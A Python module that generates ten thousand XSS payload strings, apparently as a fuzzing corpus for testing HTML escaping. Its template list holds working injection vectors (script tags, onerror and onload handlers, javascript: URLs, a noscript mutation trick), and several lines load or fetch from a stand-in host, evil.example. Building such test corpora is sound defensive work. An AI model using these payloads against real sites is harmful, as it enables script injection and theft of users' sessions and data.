"""Ten thousand strings that would be markup wherever somebody forgot to escape them."""

import random

OPENERS = [
    "", ">", "'>", '">', "`>", "'", '"', "-->", "--!>", "]]>", "</p>", "</span>", "</title>", "</textarea>",
    "</style>", "</script>", "</noscript>", "</small>", "</h1>", "</button>", "<!--", "<![CDATA[", "\\",
    "&quot;>", "&#34;>", "&lt;", "{{", "{%", "${", "</", "<p", "\x00", "\u202e", "%22%3E", "\r\n\r\n",
    "\u2028",
]  # fmt: skip
CLOSERS = ["", "<!--", "-->", "'", '"', "//", "</script>", "<b>", "&", ">", "ß{}", "*/"]
CALLS = ["alert(1)", "x()", "top.hit=1", "import('/x')", "fetch('//evil.example')", "self['ale'+'rt'](1)"]
LIVE = """
<script>CALL</script>
<script src=//evil.example/x.js></script>
<script type=module>CALL</script>
<ScRiPt>CALL</sCrIpT>
<script/x>CALL</script>
<img src=x onerror=CALL>
<img src=x onerror="CALL">
<img/src=x/onerror=CALL>
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><a xlink:href=javascript:CALL><text>x</text></a></svg>
<math><mtext><script>CALL</script></mtext></math>
<body onload=CALL>
<input autofocus onfocus=CALL>
<details open ontoggle=CALL>
<video><source onerror=CALL></video>
<iframe src=javascript:CALL></iframe>
<iframe srcdoc="<script>CALL</script>"></iframe>
<object data=javascript:CALL></object>
<embed src=javascript:CALL>
<a href=javascript:CALL>x</a>
<a href=" java&#9;script:CALL">x</a>
<a href=data:text/html,<script>CALL</script>>x</a>
<form action=javascript:CALL><button>x</button></form>
<button formaction=javascript:CALL>x</button>
<base href=//evil.example/>
<style>@import'//evil.example'</style>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content='0;url=javascript:CALL'>
x onmouseover=CALL x=
' onmouseover='CALL' x='
" onfocus="CALL" autofocus x="
x style=x:expression(CALL) x=
javascript:CALL
JaVaScRiPt:CALL
&#106;avascript:CALL
data:text/html,<script>CALL</script>
<template><script>CALL</script></template>
<noscript><img title='</noscript><img src=x onerror=CALL>'></noscript>
<x onclick=CALL>x</x>
{{CALL}}
${CALL}
""".strip().splitlines()


def markup(count: int = 10_000, seed: int = 8) -> list[str]:
    """Return so many different ones, the same for the same seed."""
    dice, found = random.Random(seed), dict[str, None]()
    while len(found) < count:
        live = dice.choice(LIVE).replace("CALL", dice.choice(CALLS))
        found[dice.choice(OPENERS) + live + dice.choice(CLOSERS)] = None
    return list(found)
